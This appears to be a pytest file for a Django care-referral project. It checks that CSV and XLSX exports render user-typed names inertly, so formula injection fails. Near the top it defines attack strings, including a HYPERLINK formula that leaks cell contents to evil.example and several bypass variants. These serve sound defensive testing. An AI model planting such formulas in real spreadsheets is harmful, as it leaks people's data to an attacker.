"""Formula injection: names typed by people never reach a spreadsheet as live formulas.

Each export of the project is downloaded with a programme or organisation called like a
formula, read back as a spreadsheet program would (the csv module, openpyxl), and checked to
hold inert text: in CSV with the apostrophe that tells a spreadsheet "this is text", in XLSX as
a string cell (never a formula cell). Numbers and dates stay numbers and dates."""

import csv
import io
from datetime import date, datetime, timedelta

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import Workbook, load_workbook

from legami.core.spreadsheets import append_row, csv_lines, csv_text, csv_writer
from legami.network import services as network
from legami.outcomes import services as outcomes
from legami.outcomes.models import Instrument
from legami.referrals import services as referrals
from legami.referrals.tests.conftest import _english, care, person_data  # noqa: F401

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A2,"Apri")'
SUM = "=1+1"
ATTACKS = [
    HYPERLINK,
    SUM,
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\uff1d1+1",  # full-width "="
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff201+1",
]


# --- the helper ---------------------------------------------------------------------------------
@pytest.mark.parametrize("text", ATTACKS)
def test_csv_text_starting_a_formula_gets_an_apostrophe(text):
    assert csv_text(text) == "'" + text


@pytest.mark.parametrize("value", [-3, -2.5, 0, 7, True, None, date(2026, 1, 2)])
def test_csv_numbers_dates_and_empty_cells_are_written_as_they_are(value):
    assert csv_text(value) is value
    (row,) = csv.reader(csv_lines([[value, "x"]]))
    assert row == ["" if value is None else str(value), "x"]


@pytest.mark.parametrize("text", ["Comunità resilienti", "Sant'Angelo", "1+1", "a=b", "'="])
def test_ordinary_text_is_left_alone(text):
    assert csv_text(text) == text


def test_the_writer_has_the_csv_writer_interface():
    output = io.StringIO()
    writer = csv_writer(output, delimiter=";")
    writer.writerow(["Nome", SUM, -4])
    writer.writerows([[HYPERLINK, 5]])
    rows = list(csv.reader(io.StringIO(output.getvalue()), delimiter=";"))
    assert rows == [["Nome", "'" + SUM, "-4"], ["'" + HYPERLINK, "5"]]


@pytest.mark.parametrize("write_only", [False, True])
def test_xlsx_text_is_a_string_cell_and_numbers_and_dates_keep_their_type(write_only):
    book = Workbook(write_only=write_only)
    sheet = book.create_sheet("Dati") if write_only else book.active
    when = datetime(2026, 3, 4, 10, 30)
    append_row(sheet, [*ATTACKS, -3, 2.5, when, None, "nome\x01con controllo"])
    append_row(sheet)
    append_row(sheet, ["dopo una riga vuota"])
    output = io.BytesIO()
    book.save(output)
    read = load_workbook(io.BytesIO(output.getvalue())).worksheets[0]
    cells = list(read.iter_rows())[0]
    # XML reads a carriage return back as a line feed; the text is otherwise kept exactly.
    assert [c.value for c in cells[: len(ATTACKS)]] == [a.replace("\r", "\n") for a in ATTACKS]
    assert all(c.data_type == "s" for c in cells[: len(ATTACKS)])
    numbers = cells[len(ATTACKS) :]
    assert numbers[0].value == -3 and numbers[0].data_type == "n"
    assert numbers[1].value == 2.5
    assert numbers[2].value == when and numbers[2].is_date
    assert numbers[3].value is None
    assert numbers[4].value == "nomecon controllo"
    assert read.cell(row=3, column=1).value == "dopo una riga vuota"
    assert not _formulas(read)


def _formulas(sheet) -> list:
    return [cell.coordinate for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]


# --- every export -------------------------------------------------------------------------------
def _csv_rows(response) -> list[list[str]]:
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text)))


@pytest.fixture
def formula_programme(care, personas):
    return network.programme_create(
        by=personas["superuser"],
        name=HYPERLINK,
        lead_partner=care["comune_org"],
        start_date="2026-01-01",
        comuni=[care["arcidosso"]],
    )


def _referral(care, programme, number: int, consents=("care", "outcomes", "research")):
    return referrals.referral_create(
        by=care["prescriber"],
        person=person_data(
            care["arcidosso"],
            first_name=f"Persona{number}",
            tax_code="",
            birth_date=date(1950, 1, number + 1),
        ),
        consents=list(consents),
        reasons=[care["loneliness"]],
        programme=programme,
    )


def test_referrals_research_csv_holds_the_programme_name_as_text(client, care, formula_programme):
    _referral(care, formula_programme, 1)
    client.force_login(care["evaluator"])
    response = client.get(reverse("referrals:research_csv"))
    header, *rows = _csv_rows(response)
    (row,) = rows
    assert row[header.index("programme")] == "'" + HYPERLINK
    assert row[header.index("birth_year")] == "1950"


def test_outcomes_responses_csv_holds_the_programme_name_as_text(client, care, formula_programme):
    referral = _referral(care, formula_programme, 1)
    outcomes.response_record(
        by=care["link_worker"],
        instrument=Instrument.objects.get(code="who5"),
        beneficiary=referral.beneficiary,
        referral=referral,
        timepoint="baseline",
        administered_on=timezone.localdate(),
        answers={1: 3, 2: 3, 3: 3, 4: 3, 5: 3},
    )
    client.force_login(care["evaluator"])
    header, *rows = _csv_rows(client.get(reverse("outcomes:research_csv")))
    (row,) = rows
    assert row[header.index("programme")] == "'" + HYPERLINK
    assert row[header.index("score")] == "60.00"
    assert row[header.index("administered_on")] == timezone.localdate().isoformat()


def test_impact_xlsx_stores_the_programme_name_as_a_string(client, care, formula_programme):
    who5 = Instrument.objects.get(code="who5")
    today = timezone.localdate()
    for number in range(6):
        referral = _referral(care, formula_programme, number)
        for timepoint, value, days in (("baseline", 2, 100), ("follow_up_3m", 4 - number % 3, 5)):
            outcomes.response_record(
                by=care["link_worker"],
                instrument=who5,
                beneficiary=referral.beneficiary,
                referral=referral,
                timepoint=timepoint,
                administered_on=today - timedelta(days=days),
                answers=dict.fromkeys(range(1, 6), value),
            )
    client.force_login(care["evaluator"])
    response = client.get(reverse("outcomes:dashboard_xlsx"), {"breakdown": "programme"})
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert not _formulas(sheet)
    (row,) = [row for row in sheet.iter_rows() if row[0].value == HYPERLINK]
    assert row[0].data_type == "s"
    assert row[1].value == 6 and row[1].data_type == "n"
    # A mean change can be negative: still a number.
    assert all(cell.data_type == "n" for cell in row[1:] if cell.value is not None)


def test_import_template_lists_the_organisation_name_as_a_string(client, care, personas):
    network.organisation_create(
        by=personas["superuser"],
        name=SUM,
        sector="third_sector",
        comune=care["arcidosso"],
    )
    client.force_login(personas["superuser"])
    response = client.get(reverse("directory:import_template"))
    book = load_workbook(io.BytesIO(response.content))
    for sheet in book.worksheets:
        assert not _formulas(sheet), sheet.title
    instructions = book["Istruzioni"]
    (cell,) = [c for row in instructions.iter_rows() for c in row if c.value == SUM]
    assert cell.data_type == "s"


def test_import_csv_template_is_written_through_the_safe_writer(client, care, personas):
    from legami.directory.spreadsheet.columns import COLUMNS

    client.force_login(personas["superuser"])
    response = client.get(reverse("directory:import_template"), {"format": "csv"})
    (row,) = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    assert row == [column.header for column in COLUMNS]
